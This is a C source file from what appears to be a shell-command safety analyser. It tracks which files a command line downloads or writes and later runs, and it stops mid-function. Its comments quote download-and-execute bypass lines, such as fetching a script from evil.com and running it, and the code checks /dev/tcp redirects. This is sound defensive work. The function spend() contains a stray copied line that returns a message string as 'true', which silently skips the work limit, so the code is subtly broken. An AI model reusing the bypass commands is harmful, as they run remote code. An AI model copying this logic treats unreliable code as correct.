/*
 * parser/linefacts.c - files a line writes and runs (see linefacts.h).
 *
 * Everything here reads the public commands of a result and the program
 * table; only the writers' index (below) is allocated.  Where the analysis cannot tell (a dynamic
 * name, an archive's contents, a name too long for the buffers), it says
 * "this may be the file": the callers then fail closed.
 */
#include <fnmatch.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include "linefacts.h"
#include "internal.h"
#include "../knowledge/programs.h"
#include "../util/array.h"
#include "../util/str.h"

#define NAME_MAX_LEN 512
#define LK_STR(x) #x
#define LK_XSTR(x) LK_STR(x)
#define COPY_DEPTH 8 /* copies of copies followed */

static bool is_option(const char *a)
{
	return a[0] == '-' && a[1] != '\0';
}

const char *lk_path_base(const char *path, char *buf, size_t cap)
{
	size_t n = strlen(path);
	while (n > 1 && path[n - 1] == '/')
		n--;
	size_t s = n;
	while (s > 0 && path[s - 1] != '/')
		s--;
	if (n - s >= cap)
		return NULL;
	memcpy(buf, path + s, n - s);
	buf[n - s] = '\0';
	return buf;
}

/* The path with `./` segments and repeated slashes dropped, into buf. */
static const char *clean_path(const char *path, char *buf, size_t cap)
{
	size_t k = 0;
	for (const char *p = path; *p;) {
		if (p[0] == '.' && p[1] == '/' && (p == path || p[-1] == '/')) {
			p += 2;
			continue;
		}
		if (p[0] == '/' && k > 0 && buf[k - 1] == '/') {
			p++;
			continue;
		}
		if (k + 1 >= cap)
			return NULL;
		buf[k++] = *p++;
	}
	buf[k] = '\0';
	return buf;
}

/* `written` ends with the segments of `tail` (".git/config"). */
static bool ends_with_segments(const char *written, const char *tail)
{
	size_t w = strlen(written), t = strlen(tail);
	if (t > w || strcmp(written + w - t, tail) != 0)
		return false;
	return t == w || written[w - t - 1] == '/';
}

static bool name_matches(const char *written, const lk_run *run);

/* A URL's name: its last segment with the query (wget), or without the
   query and fragment (curl -O). */
static bool url_matches(const char *url, const lk_run *run)
{
	if (name_matches(url, run))
		return true;
	char buf[NAME_MAX_LEN];
	size_t n = strcspn(url, "?#");
	if (n == strlen(url) || !lu_copy_fits(buf, sizeof buf, url, n))
		return false;
	return name_matches(buf, run);
}

/* A written name (NULL: any name) may be the file `run` names. */
static bool name_matches(const char *written, const lk_run *run)
{
	if (!written)
		/* a name we cannot know (curl -J, an archive) may be any file
		   run from a directory, not a program found on PATH */
		return run->match != LK_MATCH_PATH &&
		       run->match != LK_MATCH_EXACT;
	if (run->flags & (LOCUS_WORD_DYNAMIC | LOCUS_WORD_BRACE))
		return true;
	char wb[NAME_MAX_LEN], pb[NAME_MAX_LEN], wc[NAME_MAX_LEN],
	    pc[NAME_MAX_LEN];
	const char *w = clean_path(written, wc, sizeof wc);
	const char *p = clean_path(run->path, pc, sizeof pc);
	if (!w || !p)
		return true; /* too long to compare: assume it is */
	switch (run->match) {
	case LK_MATCH_EXACT: return lu_streq_null(w, p);
	case LK_MATCH_SUFFIX: return ends_with_segments(w, p);
	case LK_MATCH_DIR: return strstr(w, p) != NULL;
	case LK_MATCH_MODULE: {
		/* python -m MOD: MOD.py or the package MOD/ */
		size_t pl = strlen(p);
		const char *b = strrchr(w, '/');
		b = b ? b + 1 : w;
		if (strncmp(b, p, pl) == 0 && lu_streq_null(b + pl, ".py"))
			return true;
		for (const char *q = strstr(w, p); q; q = strstr(q + 1, p))
			if ((q == w || q[-1] == '/') && q[pl] == '/')
				return true;
		return false;
	}
	case LK_MATCH_PATH: {
		/* a bare name: something written into a bin directory */
		const char *slash = strrchr(w, '/');
		if (!slash || !lu_streq_null(slash + 1, p))
			return false;
		return (slash - w >= 3 && strncmp(slash - 3, "bin", 3) == 0);
	}
	case LK_MATCH_BASE: break;
	}
	const char *a = lk_path_base(w, wb, sizeof wb);
	const char *b = lk_path_base(p, pb, sizeof pb);
	if (!a || !b)
		return true;
	if (run->flags & LOCUS_WORD_GLOB) {
		/* extglobs and classes fnmatch does not know: assume a match */
		if (strpbrk(b, "()"))
			return true;
		return fnmatch(b, a, 0) == 0;
	}
	return lu_streq_null(a, b);
}

/* ---- what a command writes ------------------------------------------ */

/* One name a command writes, with how. */
typedef struct wname {
	const char *name; /* NULL: any name */
	lk_content content;
	bool append;
	const char *copy_of; /* a copy: the source's name */
	uint32_t copy_flags;
	bool url;     /* a URL: its last segment, with or without the
	                 query, is the name */
	bool extract; /* an archive's files: content found per search */
} wname;

/* Names one command writes (on the stack: 40 bytes each); past them the
   line fails closed (lk_writers_failed). */
#define MAX_NAMES 256

typedef struct wset {
	wname v[MAX_NAMES];
	size_t n;
	bool overflow; /* more names than fit: any name */
} wset;

static void add_name(wset *s, const char *name, lk_content content, bool append)
{
	if (s->n == MAX_NAMES) {
		s->overflow = true;
		return;
	}
	s->v[s->n++] = (wname){name, content, append, NULL, 0, false, false};
}

static void add_copy(wset *s, const char *name, const char *src,
                     uint32_t src_flags)
{
	if (s->n == MAX_NAMES) {
		s->overflow = true;
		return;
	}
	s->v[s->n++] = (wname){
	    name, LK_CONTENT_UNKNOWN, false, src, src_flags, false, false};
}

static bool net_redirect(const locus_shell_command *c)
{
	for (size_t i = 0; i < c->nredirects; i++) {
		const char *t = c->redirects[i].target;
		if (t && (strncmp(t, "/dev/tcp/", 9) == 0 ||
		          strncmp(t, "/dev/udp/", 9) == 0))
			return true;
	}
	return false;
}

/* What command i's stdout carries when it goes to a file. */
static lk_content stdout_content(const locus_shell_command *c)
{
	if ((c->argc && lk_is(c->name, LK_DOWNLOADER)) || net_redirect(c))
		return LK_CONTENT_DOWNLOAD;
	return LK_CONTENT_STDOUT;
}

bool lk_redirect_writes(const locus_shell_redirect *r)
{
	const char *op = r->op ? r->op : "";
	const char *t = r->target;
	if (!strchr(op, '>') || !t)
		return false;
	/* a descriptor duplication or close */
	return !(
	    strstr(op, ">&") && !(r->target_flags & LOCUS_WORD_DYNAMIC) &&
	    (strspn(t, "0123456789") == strlen(t) || lu_streq_null(t, "-")));
}

/* Output redirects: `> f`, `>> f`, `&> f`, `>| f`, `2> f`, `>& f`. */
static void redirect_writes(const locus_shell_command *c, wset *s)
{
	for (size_t i = 0; i < c->nredirects; i++) {
		const locus_shell_redirect *r = &c->redirects[i];
		const char *op = r->op ? r->op : "";
		const char *t = r->target;
		if (!lk_redirect_writes(r))
			continue;
		if (strstr(t, "/dev/tcp/") == t || strstr(t, "/dev/udp/") == t)
			continue;
		bool out = r->fd == -1 || r->fd == 1 || op[0] == '&';
		const char *name =
		    (r->target_flags & LOCUS_WORD_DYNAMIC) ? NULL : t;
		add_name(s, name, out ? stdout_content(c) : LK_CONTENT_UNKNOWN,
		         strstr(op, ">>") != NULL);
	}
}

/* The last segment of a URL with and without its query, both written
   names (wget keeps `?x=1` in the name, curl -O does not). */
static void url_names(wset *s, const char *url, lk_content content)
{
	add_name(s, url, content, false);
	if (s->n && s->v[s->n - 1].name == url)
		s->v[s->n - 1].url = true;
}

/* An option's value: the attached one (`--output=F`, `-oF`), else the
   next word (*i advanced past it), else NULL. */
static const char *opt_value(const locus_shell_command *c, const char *attached,
                             size_t *i)
{
	if (attached)
		return attached;
	return *i + 1 < c->argc ? c->argv[++*i] : NULL;
}

/* A downloader's -o/--output value (c->argv[i] holds it, or the option it
   is attached to): "-" is stdout, a value known only at run time any
   file (`curl -o "$(echo i)".sh URL && sh i.sh`, found by fuzz_bypass),
   else that file. */
static void fetch_output(wset *s, const locus_shell_command *c, size_t i,
                         const char *v, bool *to_stdout)
{
	if (c->argv_flags && (c->argv_flags[i] & LOCUS_WORD_DYNAMIC))
		add_name(s, NULL, LK_CONTENT_DOWNLOAD, false);
	else if (v && lu_streq_null(v, "-"))
		*to_stdout = true;
	else if (v)
		add_name(s, v, LK_CONTENT_DOWNLOAD, false);
}

/* A downloader's output files: -o F, --output=F, -O (the URL's name),
   -J (the server's name: any), wget's default. */
static void fetch_writes(const locus_shell_command *c, const lk_fetch *f,
                         wset *s)
{
	bool named = false, save_url = f->saves, to_stdout = false;
	for (size_t i = 1; i < c->argc; i++) {
		const char *a = c->argv[i];
		bool dyn =
		    c->argv_flags && (c->argv_flags[i] & LOCUS_WORD_DYNAMIC);
		/* a word known only at run time may be -o, taking the next
		   word (`curl "$(echo -o)" i.sh URL && sh i.sh`, found by
		   fuzz_bypass): any file */
		if (dyn) {
			add_name(s, NULL, LK_CONTENT_DOWNLOAD, false);
			continue;
		}
		if (a[0] == '-' && a[1] == '-') {
			const char *nm = a + 2, *eq = strchr(nm, '=');
			size_t nl = eq ? (size_t)(eq - nm) : strlen(nm);
			if (lk_bar_has(f->out_long, nm, nl)) {
				const char *v =
				    opt_value(c, eq ? eq + 1 : NULL, &i);
				fetch_output(s, c, i, v, &to_stdout);
				named = true;
			} else if (lk_bar_has(f->save_long, nm, nl)) {
				save_url = true;
			} else if (lk_bar_has(f->server_long, nm, nl)) {
				add_name(s, NULL, LK_CONTENT_DOWNLOAD, false);
			}
			continue;
		}
		if (!is_option(a))
			continue;
		for (const char *p = a + 1; *p; p++) {
			if (lk_has_letter(f->out_short, *p)) {
				const char *v =
				    opt_value(c, p[1] ? p + 1 : NULL, &i);
				fetch_output(s, c, i, v, &to_stdout);
				named = true;
				break;
			}
			if (lk_has_letter(f->save_short, *p))
				save_url = true;
			if (lk_has_letter(f->server_short, *p))
				add_name(s, NULL, LK_CONTENT_DOWNLOAD, false);
		}
	}
	if (save_url && !(named && f->saves) && !to_stdout) {
		/* every operand is a URL (wget evil.com/i.sh saves i.sh) */
		for (size_t i = 1; i < c->argc; i++) {
			if (is_option(c->argv[i]))
				continue;
			/* a URL known only at run time saves a name we
			   cannot know (`wget ${u}$(echo .sh) && bash i.sh`,
			   found by fuzz_bypass) */
			if (c->argv_flags &&
			    (c->argv_flags[i] & LOCUS_WORD_DYNAMIC))
				add_name(s, NULL, LK_CONTENT_DOWNLOAD, false);
			else
				url_names(s, c->argv[i], LK_CONTENT_DOWNLOAD);
		}
	}
}

/* Option letters of cp/mv/ln/install that take a value. */
static const char *copy_values(const char *name)
{
	return lu_streq_null(name, "install") ? "gmoSt" : "St";
}

/* cp/mv/ln/install SRC... DEST, or -t DIR SRC...: the destination and,
   as it may be a directory, each source's basename. */
static void copy_writes(const locus_shell_command *c, wset *s)
{
	const char *ops[64];
	uint32_t opf[64];
	size_t n = 0;
	const char *dir = NULL;
	bool dd = false;
	for (size_t i = 1; i < c->argc; i++) {
		const char *a = c->argv[i];
		uint32_t fl = c->argv_flags ? c->argv_flags[i] : 0;
		if (!dd && lu_streq_null(a, "--")) {
			dd = true;
			continue;
		}
		if (!dd && strncmp(a, "--target-directory=", 19) == 0) {
			dir = a + 19;
			continue;
		}
		if (!dd && lu_streq_null(a, "--target-directory") &&
		    i + 1 < c->argc) {
			dir = c->argv[++i];
			continue;
		}
		if (!dd && a[0] == '-' && a[1] == '-')
			continue;
		if (!dd && is_option(a)) {
			const char *vals = copy_values(c->name);
			for (const char *p = a + 1; *p; p++) {
				if (!lk_has_letter(vals, *p))
					continue;
				const char *v = p[1]              ? p + 1
				                : i + 1 < c->argc ? c->argv[++i]
				                                  : "";
				if (*p == 't')
					dir = v;
				break;
			}
			continue;
		}
		if (n == 64) {
			s->overflow = true;
			return;
		}
		opf[n] = fl;
		ops[n++] = a;
	}
	if (n == 0)
		return;
	size_t nsrc = dir ? n : n - 1;
	if (!dir) {
		bool dyn = opf[n - 1] & (LOCUS_WORD_DYNAMIC | LOCUS_WORD_GLOB);
		for (size_t k = 0; k < nsrc; k++)
			add_copy(s, dyn ? NULL : ops[n - 1], ops[k], opf[k]);
	}
	/* into a directory: the source's own name */
	for (size_t k = 0; k < nsrc; k++)
		add_copy(s, (opf[k] & LOCUS_WORD_DYNAMIC) ? NULL : ops[k],
		         ops[k], opf[k]);
}

/* Any command of the pipeline of c before it fetches from the network. */
static bool fed_by_download(const locus_shell_result *r, size_t at)
{
	const locus_shell_command *c = locus_shell_result_command(r, at);
	if (!(c->flags & LOCUS_CMD_PIPED_IN))
		return false;
	for (size_t k = at; k-- > 0;) {
		const locus_shell_command *p = locus_shell_result_command(r, k);
		if (p->pipeline != c->pipeline)
			break;
		if (stdout_content(p) == LK_CONTENT_DOWNLOAD)
			return true;
	}
	return false;
}

/* Programs that rewrite a file in place (sed -i, perl -i): whatever was
   written there before is no longer known. */
static bool in_place(const locus_shell_command *c, const lk_program *p)
{
	if (!lu_streq_null(c->name, "sed") && !lu_streq_null(c->name, "perl") &&
	    !(p && (p->cls & LK_INTERP)))
		return false;
	for (size_t i = 1; i < c->argc; i++) {
		const char *a = c->argv[i];
		if (strncmp(a, "--in-place", 10) == 0)
			return true;
		if (a[0] == '-' && a[1] != '-' && strchr(a + 1, 'i') &&
		    (lu_streq_null(c->name, "sed") || a[1] == 'i'))
			return true;
	}
	return false;
}

static size_t writes_depth(const locus_shell_result *r, lk_writers *wr,
                           size_t at, const lk_run *path, lk_write *out,
                           size_t max, unsigned depth);

/* What archive command j puts on disk: a download when it is fed one, or
   one of its operands is a file the line downloaded (followed `depth`
   copies deep); past COPY_DEPTH, not known (as for copies: the line is
   then unparsed; it was taken to be a download, which left
   `tar xf a.tar; tar xf b.tar; ./install.sh` parsed, each archive "maybe
   extracted" by the other until the depth ran out, and the labeller,
   seeing no downloader on the line, found no remote code).  Without `wr`
   (the writers are being listed) only that it writes counts. */
static lk_content extract_content(const locus_shell_result *r, lk_writers *wr,
                                  size_t j, unsigned depth)
{
	const locus_shell_command *c = locus_shell_result_command(r, j);
	if (wr && !fed_by_download(r, j) && depth >= COPY_DEPTH)
		return LK_CONTENT_UNKNOWN;
	bool dl = fed_by_download(r, j) || !wr;
	for (size_t i = 1; i < c->argc && !dl; i++) {
		lk_run a = {c->argv[i], c->argv_flags[i], LK_MATCH_BASE,
		            LK_RUN_EXEC};
		lk_write w[4];
		size_t nw = is_option(c->argv[i])
		                ? 0
		                : writes_depth(r, wr, j, &a, w, 4, depth + 1);
		for (size_t k = 0; k < nw; k++)
			dl |= w[k].content == LK_CONTENT_DOWNLOAD;
	}
	return dl ? LK_CONTENT_DOWNLOAD : LK_CONTENT_UNKNOWN;
}

/* Every name command j writes, listed once per line (the extraction's
   content depends on how deep the search is: it is marked, and found
   when a search reaches it). */
static void command_writes(const locus_shell_result *r, size_t j, wset *s)
{
	const locus_shell_command *c = locus_shell_result_command(r, j);
	redirect_writes(c, s);
	if (c->argc == 0)
		return;
	const lk_program *p = lp_command_program(r, j);
	uint32_t cls = p ? p->cls : 0;
	if (cls & LK_WRITES_ARGS) {
		lk_content ct = fed_by_download(r, j) ? LK_CONTENT_DOWNLOAD
		                                      : LK_CONTENT_STDOUT;
		for (size_t i = 1; i < c->argc; i++)
			if (!is_option(c->argv[i]))
				add_name(s,
				         (c->argv_flags[i] & LOCUS_WORD_DYNAMIC)
				             ? NULL
				             : c->argv[i],
				         ct, false);
	}
	if ((cls & LK_DOWNLOADER) && p->fetch)
		fetch_writes(c, p->fetch, s);
	if (cls & LK_COPIES)
		copy_writes(c, s);
	if (lk_extracts(p, c->argv, c->argc)) {
		add_name(s, NULL, LK_CONTENT_UNKNOWN, false);
		if (!s->overflow)
			s->v[s->n - 1].extract = true;
	}
	if (in_place(c, p))
		for (size_t i = 1; i < c->argc; i++)
			if (!is_option(c->argv[i]))
				add_name(s, c->argv[i], LK_CONTENT_UNKNOWN,
				         false);
	/* dd of=F (the row's destroys_by), sort -o F; a row's write options
	   (find -fprint F) */
	for (size_t i = 1; i < c->argc; i++) {
		const char *a = c->argv[i];
		const char *f = lk_destroyed_file(p, a);
		if (lk_writes_operand(p, c->argv, i))
			add_name(s,
			         (c->argv_flags[i] & LOCUS_WORD_DYNAMIC) ? NULL
			                                                 : a,
			         LK_CONTENT_UNKNOWN, false);
		if (f)
			add_name(s, f, LK_CONTENT_UNKNOWN, false);
		if (lu_streq_null(c->name, "sort") &&
		    (strncmp(a, "-o", 2) == 0 ||
		     strncmp(a, "--output", 8) == 0)) {
			const char *v = a[1] == 'o' && a[2] ? a + 2
			                : strchr(a, '=')    ? strchr(a, '=') + 1
			                : i + 1 < c->argc   ? c->argv[i + 1]
			                                    : NULL;
			add_name(s, v, LK_CONTENT_UNKNOWN, false);
		}
	}
}

/* Commands whose writes may come before `at` runs: every other command
   of the line.  Source order is not run order: a function body is listed
   where it is defined and runs where it is called, a loop runs its body
   again after a later command of it wrote, a pipeline's stages run at
   once. */
static bool before(const locus_shell_result *r, size_t j, size_t at)
{
	(void)r;
	return j != at;
}

/* ---- the writers, indexed by name ----------------------------------- */

/*
 * Every name of every writer is an entry, numbered in (writer, name)
 * order, and filed in the name index (nameindex.h) under the keys a run
 * can look it up by: its basename (BASE and SUFFIX runs, python -m's
 * MOD.py), its whole cleaned path (EXACT), its basename when it sits in a
 * `bin` directory (PATH), and each of its directory segments (DIR, a
 * python package).  Entries no key can stand for (any name, a name too
 * long to compare) are on two lists that searches read besides their
 * keys.  A
 * search merges the lists of its keys in entry order and applies the one
 * match rule (name_matches) to each candidate, so its answer, and the
 * order of it, are those of a scan of every writer; a run the keys cannot
 * narrow (a dynamic or globbed name) scans every entry.
 */
struct lk_wentry {
	size_t by; /* the writer */
	wname w;
	/* an extraction's content per search depth (bit d), computed once
	   while the writers stay the same (gen) */
	size_t gen;
	uint16_t known, download;
};

enum { KEY_BASE = 1, KEY_FULL, KEY_BIN, KEY_DIRSEG };

static bool index_key(lk_writers *wr, unsigned kind, const char *k, size_t n,
                      size_t e)
{
	return lk_nidx_add(&wr->index, kind, k, n, e);
}

static bool push_loose(lk_entry_list *l, size_t e)
{
	if (!lu_reserve(&l->v, &l->cap, l->n + 1))
		return false;
	l->v[l->n++] = e;
	return true;
}

/* File entry e under the keys of the written name x. */
static bool index_name(lk_writers *wr, size_t e, const char *x)
{
	char cb[NAME_MAX_LEN], bb[NAME_MAX_LEN];
	const char *w = clean_path(x, cb, sizeof cb);
	const char *b = w ? lk_path_base(w, bb, sizeof bb) : NULL;
	if (!b) /* too long to compare: may be any file */
		return push_loose(&wr->too_long, e);
	bool ok = index_key(wr, KEY_BASE, b, strlen(b), e) &&
	          index_key(wr, KEY_FULL, w, strlen(w), e);
	const char *slash = strrchr(w, '/');
	if (ok && slash && slash - w >= 3 && strncmp(slash - 3, "bin", 3) == 0)
		ok = index_key(wr, KEY_BIN, slash + 1, strlen(slash + 1), e);
	for (const char *seg = w, *q; ok && (q = strchr(seg, '/')); seg = q + 1)
		if (q > seg)
			ok = index_key(wr, KEY_DIRSEG, seg, (size_t)(q - seg),
			               e);
	return ok;
}

static bool index_entry(lk_writers *wr, size_t e)
{
	const wname *w = &wr->v[e].w;
	if (!w->name)
		return push_loose(&wr->any_name, e);
	if (!index_name(wr, e, w->name))
		return false;
	/* a URL is also its name without the query (url_matches) */
	size_t n = strcspn(w->name, "?#");
	if (!w->url || n == strlen(w->name) || n >= NAME_MAX_LEN)
		return true;
	char buf[NAME_MAX_LEN];
	memcpy(buf, w->name, n);
	buf[n] = '\0';
	return index_name(wr, e, buf);
}

/* Append command j's names (it writes at least one). */
static bool add_writer(lk_writers *wr, size_t j, const wset *s)
{
	if (!lu_reserve(&wr->v, &wr->cap, wr->n + s->n))
		return false;
	for (size_t k = 0; k < s->n; k++) {
		wr->v[wr->n] = (lk_wentry){j, s->v[k], 0, 0, 0};
		if (!index_entry(wr, wr->n++))
			return false;
	}
	wr->nwriters++;
	return true;
}

void lk_line_writers(const locus_shell_result *r, lk_writers *out)
{
	*out = (lk_writers)LK_WRITERS_INIT;
	lk_line_writers_from(r, out, 0);
}

void lk_line_writers_from(const locus_shell_result *r, lk_writers *out,
                          size_t from)
{
	size_t count = locus_shell_result_count(r);
	out->ncommands = count;
	for (size_t j = from; j < count && !out->overflow; j++) {
		wset s;
		s.n = 0;
		s.overflow = false;
		command_writes(r, j, &s);
		/* the names past MAX_NAMES were not kept: which files the
		   command writes is not known, so the line fails closed (a
		   dropped name could be the file run later) */
		if (s.overflow)
			out->names_over = true;
		if (!s.n && !s.overflow)
			continue;
		if (out->nwriters == LK_MAX_WRITERS || !add_writer(out, j, &s))
			out->overflow = true; /* callers fail closed */
		out->gen++; /* what extractions hold may change */
	}
}

void lk_writers_free(lk_writers *wr)
{
	free(wr->v);
	free(wr->any_name.v);
	free(wr->too_long.v);
	lk_nidx_free(&wr->index);
	*wr = (lk_writers)LK_WRITERS_INIT;
}

const char *lk_writers_failed(const lk_writers *wr)
{
	if (wr->overflow)
		return "the line writes more than " LK_XSTR(
		    LK_MAX_WRITERS) " files";
	if (wr->names_over)
		return "a command writes more than " LK_XSTR(
		    MAX_NAMES) " files";
	if (wr->work_over)
		return "the files the line writes take too long to match "
		       "against the files it runs";
	return NULL;
}

/* The candidates of one search: the lists of up to two keys, the names
   too long to compare and (but for PATH and EXACT runs, which no unknown
   name can be) the unknown names, merged in entry order; or (all) every
   entry. */
typedef struct cands {
	lk_nidx_cursor key[2];
	size_t nkeys, next;
	size_t pos[2]; /* in too_long, any_name */
	bool any_name, all, emitted;
} cands;

static void cands_key(const lk_writers *wr, cands *it, unsigned kind,
                      const char *k, size_t n)
{
	it->key[it->nkeys++] = lk_nidx_find(&wr->index, kind, k, n);
}

/* The keys of a run whose cleaned path is p; false: every entry. */
static bool run_keys(const lk_writers *wr, const lk_run *run, const char *p,
                     cands *it)
{
	char bb[NAME_MAX_LEN];
	const char *b = lk_path_base(p, bb, sizeof bb);
	size_t pl = strlen(p);
	switch (run->match) {
	case LK_MATCH_EXACT: cands_key(wr, it, KEY_FULL, p, pl); return true;
	case LK_MATCH_PATH: cands_key(wr, it, KEY_BIN, p, pl); return true;
	case LK_MATCH_DIR: {
		/* the pattern's last segment, whole in the written path
		   when a '/' comes before it and after it */
		if (pl < 2 || p[pl - 1] != '/')
			return false;
		size_t s = pl - 1;
		while (s > 0 && p[s - 1] != '/')
			s--;
		if (s == 0 || s == pl - 1)
			return false;
		cands_key(wr, it, KEY_DIRSEG, p + s, pl - 1 - s);
		return true;
	}
	case LK_MATCH_MODULE: {
		if (strchr(p, '/') || pl + 4 > sizeof bb)
			return false;
		memcpy(bb, p, pl);
		memcpy(bb + pl, ".py", 4);
		cands_key(wr, it, KEY_BASE, bb, pl + 3);
		cands_key(wr, it, KEY_DIRSEG, p, pl);
		return true;
	}
	case LK_MATCH_SUFFIX: break;
	case LK_MATCH_BASE:
		if (run->flags & LOCUS_WORD_GLOB)
			return false;
		break;
	}
	if (!b)
		return false;
	cands_key(wr, it, KEY_BASE, b, strlen(b));
	return true;
}

static void cands_begin(const lk_writers *wr, const lk_run *run, cands *it)
{
	memset(it, 0, sizeof *it);
	char pc[NAME_MAX_LEN];
	const char *p = (run->flags & (LOCUS_WORD_DYNAMIC | LOCUS_WORD_BRACE))
	                    ? NULL
	                    : clean_path(run->path, pc, sizeof pc);
	it->all = !p || !run_keys(wr, run, p, it);
	it->any_name =
	    run->match != LK_MATCH_PATH && run->match != LK_MATCH_EXACT;
}

static bool cands_next(const lk_writers *wr, cands *it, size_t *e)
{
	if (it->all) {
		if (it->next >= wr->n)
			return false;
		*e = it->next++;
		return true;
	}
	for (;;) {
		size_t best = SIZE_MAX, v;
		int src = -1;
		for (size_t k = 0; k < it->nkeys; k++)
			if (lk_nidx_peek(&wr->index, &it->key[k], &v) &&
			    v < best) {
				best = v;
				src = (int)k;
			}
		const lk_entry_list *lists[2] = {&wr->too_long, &wr->any_name};
		for (size_t k = 0; k < (it->any_name ? 2u : 1u); k++)
			if (it->pos[k] < lists[k]->n &&
			    lists[k]->v[it->pos[k]] < best) {
				best = lists[k]->v[it->pos[k]];
				src = 2 + (int)k;
			}
		if (src < 0)
			return false;
		if (src >= 2)
			it->pos[src - 2]++;
		else
			lk_nidx_next(&wr->index, &it->key[src]);
		/* an entry under two of the keys comes twice, in a row */
		if (it->emitted && best < it->next)
			continue;
		it->emitted = true;
		it->next = best + 1;
		*e = best;
		return true;
	}
}

/* extract_content of entry e's writer, once per depth (a search for an
   archive's operands finds other archives, which search in turn: without
   the memo, a line of unzips costs a power of its length). */
static lk_content extraction(const locus_shell_result *r, lk_writers *wr,
                             size_t e, unsigned depth)
{
	lk_wentry *x = &wr->v[e];
	if (depth >= 16)
		return extract_content(r, wr, x->by, depth);
	uint16_t bit = (uint16_t)(1u << depth);
	if (x->gen != wr->gen) {
		x->gen = wr->gen;
		x->known = x->download = 0;
	}
	if (!(x->known & bit)) {
		bool dl =
		    extract_content(r, wr, x->by, depth) == LK_CONTENT_DOWNLOAD;
		x = &wr->v[e]; /* the same array: nothing is added here */
		x->known |= bit;
		if (dl)
			x->download |= bit;
	}
	return (x->download & bit) ? LK_CONTENT_DOWNLOAD : LK_CONTENT_UNKNOWN;
}

/* One more candidate examined; false once the line's matching work is
   past what its size allows (linear in its commands and names). */
static bool spend(lk_writers *wr)
{
	if (wr->names_over)
		return "a command writes more than " LK_XSTR(
		    MAX_NAMES) " files";
	if (wr->work_over)
		return false;
	size_t limit = LK_MATCH_WORK * (wr->n + wr->ncommands) + 65536;
	if (++wr->work > limit) {
		wr->work_over = true;
		return false;
	}
	return true;
}

static size_t writes_depth(const locus_shell_result *r, lk_writers *wr,
                           size_t at, const lk_run *path, lk_write *out,
                           size_t max, unsigned depth)
{
	size_t n = 0, e;
	cands it;
	cands_begin(wr, path, &it);
	while (n < max && cands_next(wr, &it, &e) && spend(wr)) {
		size_t j = wr->v[e].by;
		if (!before(r, j, at))
			continue;
		wname wn = wr->v[e].w;
		const wname *w = &wn;
		if (!(w->url ? url_matches(w->name, path)
		             : name_matches(w->name, path)))
			continue;
		if (w->extract)
			wn.content = extraction(r, wr, e, depth);
		if (!w->copy_of) {
			out[n++] = (lk_write){j, w->content, w->append, false,
			                      w->name};
			continue;
		}
		/* a copy: the writes of its source, before the copy */
		if (depth >= COPY_DEPTH) {
			out[n++] = (lk_write){j, LK_CONTENT_UNKNOWN, false,
			                      true, w->name};
			continue;
		}
		lk_run src = {w->copy_of, w->copy_flags, LK_MATCH_BASE,
		              path->as};
		lk_write sub[LK_MAX_WRITES];
		size_t ns =
		    writes_depth(r, wr, j, &src, sub, LK_MAX_WRITES, depth + 1);
		for (size_t m = 0; m < ns && n < max; m++) {
			sub[m].copy = true;
			out[n++] = sub[m];
		}
	}
	return n;
}

size_t lk_line_writes(const locus_shell_result *r, lk_writers *wr, size_t at,
                      const lk_run *path, lk_write *out, size_t max)
{
	return writes_depth(r, wr, at, path, out, max, 0);
}

/* ---- what a command runs ---------------------------------------------- */

static const char *const system_dirs[] = {
    "/bin/",           "/usr/bin/",        "/sbin/", "/usr/sbin/",
    "/usr/local/bin/", "/usr/local/sbin/", NULL,
};

static bool in_system_dir(const char *p)
{
	for (const char *const *d = system_dirs; *d; d++) {
		size_t n = strlen(*d);
		if (strncmp(p, *d, n) == 0 && !strchr(p + n, '/'))
			return true;
	}
	return false;
}

static void add_run(lk_run *out, size_t *n, size_t max, const char *path,
                    uint32_t flags, lk_match m, lk_runner as)
{
	if (*n < max && path && *path)
		out[(*n)++] = (lk_run){path, flags, m, as};
}

/* A shell's script operand: the first operand, unless -c or -s. */
static void shell_script(const locus_shell_command *c, lk_run *out, size_t *n,
                         size_t max)
{
	for (size_t i = 1; i < c->argc; i++) {
		const char *a = c->argv[i];
		if (lu_streq_null(a, "--") || lu_streq_null(a, "-")) {
			if (a[1] == '-' && i + 1 < c->argc)
				add_run(out, n, max, c->argv[i + 1],
				        c->argv_flags[i + 1], LK_MATCH_BASE,
				        LK_RUN_SHELL);
			return;
		}
		if (a[0] == '-' && a[1] == '-') {
			if ((lu_streq_null(a, "--rcfile") ||
			     lu_streq_null(a, "--init-file")) &&
			    i + 1 < c->argc) {
				i++;
				add_run(out, n, max, c->argv[i],
				        c->argv_flags[i], LK_MATCH_BASE,
				        LK_RUN_SHELL);
			}
			if (lu_streq_null(a, "--command") ||
			    lu_streq_null(a, "--debugger"))
				return;
			continue;
		}
		if ((a[0] == '-' || a[0] == '+') && a[1]) {
			if (strpbrk(a + 1, "cs"))
				return; /* a -c script or stdin */
			if (strpbrk(a + 1, "oO") && i + 1 < c->argc)
				i++;
			continue;
		}
		add_run(out, n, max, a, c->argv_flags[i], LK_MATCH_BASE,
		        LK_RUN_SHELL);
		return;
	}
}

/* An interpreter's program file: the value of a file option (awk -f F,
   php -f F), or the first operand when no code option was given. */
static void interp_script(const locus_shell_command *c, const lk_interp *it,
                          lk_run *out, size_t *n, size_t max)
{
	bool code = false;
	for (size_t i = 1; i < c->argc; i++) {
		const char *a = c->argv[i];
		uint32_t fl = c->argv_flags[i];
		if (lu_streq_null(a, "--")) {
			if (!code && !(it->flags & LK_I_OPERAND) &&
			    i + 1 < c->argc)
				add_run(out, n, max, c->argv[i + 1],
				        c->argv_flags[i + 1], LK_MATCH_BASE,
				        LK_RUN_INTERP);
			return;
		}
		if (a[0] == '-' && a[1] == '-') {
			const char *nm = a + 2, *eq = strchr(nm, '=');
			size_t nl = eq ? (size_t)(eq - nm) : strlen(nm);
			if (lk_bar_has(it->code_long, nm, nl))
				code = true;
			if (!eq && (lk_bar_has(it->code_long, nm, nl) ||
			            lk_bar_has(it->val_long, nm, nl)))
				i++;
			continue;
		}
		if (!is_option(a)) {
			if (!code && !(it->flags & LK_I_OPERAND))
				add_run(out, n, max, a, fl, LK_MATCH_BASE,
				        LK_RUN_INTERP);
			return;
		}
		for (const char *p = a + 1; *p; p++) {
			bool is_code = lk_has_letter(it->code, *p);
			bool is_file = lk_has_letter(it->file, *p);
			if (is_code || is_file || lk_has_letter(it->val, *p) ||
			    lk_has_letter(it->stop, *p)) {
				const char *v = p[1]              ? p + 1
				                : i + 1 < c->argc ? c->argv[++i]
				                                  : NULL;
				uint32_t vf = p[1] ? fl : c->argv_flags[i];
				if (is_file)
